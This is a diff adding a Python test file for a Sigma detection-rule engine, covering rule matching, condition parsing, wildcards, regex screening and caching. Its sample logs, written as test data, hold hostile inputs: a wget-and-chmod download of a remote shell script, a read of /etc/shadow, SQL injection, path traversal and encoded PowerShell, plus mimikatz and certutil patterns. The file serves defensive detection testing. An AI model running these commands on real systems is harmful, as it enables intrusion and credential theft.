@@ -0,0 +1,153 @@
+"""Test Sigma rule engine matching."""
+import sys
+from pathlib import Path
+
+# Add src to path
+ROOT = Path(__file__).parent.parent
+sys.path.insert(0, str(ROOT))
+
+from src.workers.sigma_rule_engine import SigmaRuleEngine, SigmaRule
+
+SAMPLE_LOGS = [
+    {"id": 1, "log_type": "linux", "program": "sshd",
+     "raw_line": "sshd[812]: Failed password for root from 10.0.0.5 port 22 ssh2"},
+    {"id": 2, "log_type": "linux", "program": "bash",
+     "raw_line": "bash: wget http://10.0.0.9/x.sh -O /tmp/x.sh && chmod +x /tmp/x.sh"},
+    {"id": 3, "log_type": "linux", "program": "sudo",
+     "raw_line": "sudo: alice : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"},
+    {"id": 4, "log_type": "nginx", "path": "/login.php", "status_code": 200,
+     "raw_line": "GET /login.php?id=1' OR '1'='1 HTTP/1.1"},
+    {"id": 5, "log_type": "nginx", "path": "/../../etc/passwd", "status_code": 404,
+     "raw_line": "GET /../../etc/passwd HTTP/1.1"},
+    {"id": 6, "log_type": "windows", "event_id": 4625, "channel": "Security",
+     "raw_line": "An account failed to log on. powershell -enc SQBFAFgA"},
+]
+
+
+def test_prefilter_keeps_every_match():
+    """match_log's literal prefilter never drops a rule that would match."""
+    engine = SigmaRuleEngine(str(ROOT / "Sigma_Rules"))
+    assert engine.load_rules() > 0
+
+    for log in SAMPLE_LOGS:
+        log_type = log["log_type"]
+        expected = [
+            rule.id for rule in engine.rules[log_type]
+            if engine._evaluate_rule(rule, log, log_type)
+        ]
+        assert [alert["rule_id"] for alert in engine.match_log(log)] == expected, log["raw_line"]
+    print(f"✓ {len(SAMPLE_LOGS)} logs matched the same rules with the prefilter")
+
+
+def test_condition_parsing():
+    """Conditions parse once into a tree with not > and > or precedence."""
+    engine = SigmaRuleEngine(str(ROOT / "Sigma_Rules"))
+    detection = {
+        "factor": {"Message|contains": "alpha"},
+        "sel2": {"Message|contains": "beta"},
+        "sel3": {"Message|contains": "gamma"},
+    }
+    cases = {
+        "factor": ["alpha", "alpha beta"],
+        "factor and sel2 or sel3": ["alpha beta", "gamma"],
+        "factor and not (sel2 or sel3)": ["alpha"],
+        "not factor and not sel2 and not sel3": ["delta"],
+        "1 of them": [],
+        "factor | count() > 5": [],
+    }
+    lines = ["alpha", "alpha beta", "gamma", "delta"]
+
+    for condition, expected in cases.items():
+        rule = SigmaRule(
+            id="t", title="t", description="", level="low", status="test",
+            logsource={"product": "linux"}, detection=dict(detection, condition=condition),
+            falsepositives=[], references=[], author="", file_path=""
+        )
+        engine.rules["linux"] = [rule]
+        matched = [line for line in lines if engine.match_log({"id": 1, "log_type": "linux", "raw_line": line})]
+        assert matched == expected, condition
+    print(f"✓ {len(cases)} conditions evaluated as expected")
+
+
+def test_wildcard_string_methods():
+    """Simple wildcard shapes use string methods and agree with their regex."""
+    engine = SigmaRuleEngine(str(ROOT / "Sigma_Rules"))
+    cases = {
+        "cmd*": "startswith",
+        "*/bin/sh": "endswith",
+        "cmd.exe*": "literal_regex",
+        "*mimikatz*": "contains",
+        "*": "contains",
+        "c*d.exe": "literal_regex",
+        "*a.b*": "regex",
+    }
+    logs = [
+        "cmd.exe /c whoami", "/usr/bin/sh", "cmdxexe", "run mimikatz now", "cxd.exe", "a.b", "axb", "",
+        # Multi-line values: '*' spans the newline under both forms
+        "cmd.exe\n/c whoami", "x\n/usr/bin/sh", "/usr/bin/sh\n", "run\nmimikatz\nnow", "c\nd.exe", "x\na.b\ny",
+    ]
+
+    for value, kind in cases.items():
+        assert engine._matcher(value, None)[0] == kind, value
+        pattern = engine._pattern(value, False)
+        for log in logs:
+            expected = pattern is not None and pattern.search(log) is not None
+            assert engine._match_value(log, *engine._matcher(value, None)) == expected, (value, log)
+    print(f"✓ {len(cases)} wildcard shapes matched like their regex")
+
+
+def test_wildcards_span_lines():
+    """String-method and regex wildcards agree on multi-line values."""
+    engine = SigmaRuleEngine(str(ROOT / "Sigma_Rules"))
+    log = "first line\nrun foo now\nlast line"
+    for value in ("*foo*", "*f.o*", "first*", "*line", "first*now*line"):
+        assert engine._match_value(log, *engine._matcher(value, None)), value
+    for value in ("foo*", "*foo", "*f.x*"):
+        assert not engine._match_value(log, *engine._matcher(value, None)), value
+    print("✓ Wildcards match across newlines in both forms")
+
+
+def test_regex_literal_screening():
+    """|re values with a required literal skip the regex only when it cannot match."""
+    engine = SigmaRuleEngine(str(ROOT / "Sigma_Rules"))
+    cases = {
+        r"invoke-(mimikatz|kerberoast)": "invoke-",
+        r"certutil.*-urlcache": "-urlcache",
+        r"(a|b)c": "c",
+        r"^\d+$": "",
+    }
+    logs = ["invoke-mimikatz", "invoke-x", "certutil -urlcache -f", "bc", "123", "ſtop", ""]
+
+    for value, literal in cases.items():
+        assert engine._required_literal(engine._pattern(value, True)) == literal, value
+        pattern = engine._pattern(value, True)
+        for log in logs:
+            assert engine._match_value(log, *engine._matcher(value, "re")) == (pattern.search(log) is not None)
+    print(f"✓ {len(cases)} regex values screened by their literals")
+
+
+def test_rule_cache(tmp_path):
+    """A second load reuses the pickled rules until a rule file changes."""
+    rule_file = tmp_path / "Linux" / "rule.yml"
+    rule_file.parent.mkdir()
+    rule_file.write_text("title: first\ndetection:\n  keywords: [x]\n  condition: keywords\n")
+
+    def titles():
+        engine = SigmaRuleEngine(str(tmp_path))
+        engine.load_rules()
+        return [rule.title for rule in engine.rules["linux"]]
+
+    assert titles() == ["first"]
+    assert (tmp_path / ".sigma_cache.pkl").exists()
+    assert titles() == ["first"]
+
+    rule_file.write_text("title: second\ndetection:\n  keywords: [x]\n  condition: keywords\n")
+    assert titles() == ["second"]
+    print("✓ rule cache reused and invalidated")
+
+
+if __name__ == "__main__":
+    test_prefilter_keeps_every_match()
+    test_condition_parsing()
+    test_wildcard_string_methods()
+    test_regex_literal_screening()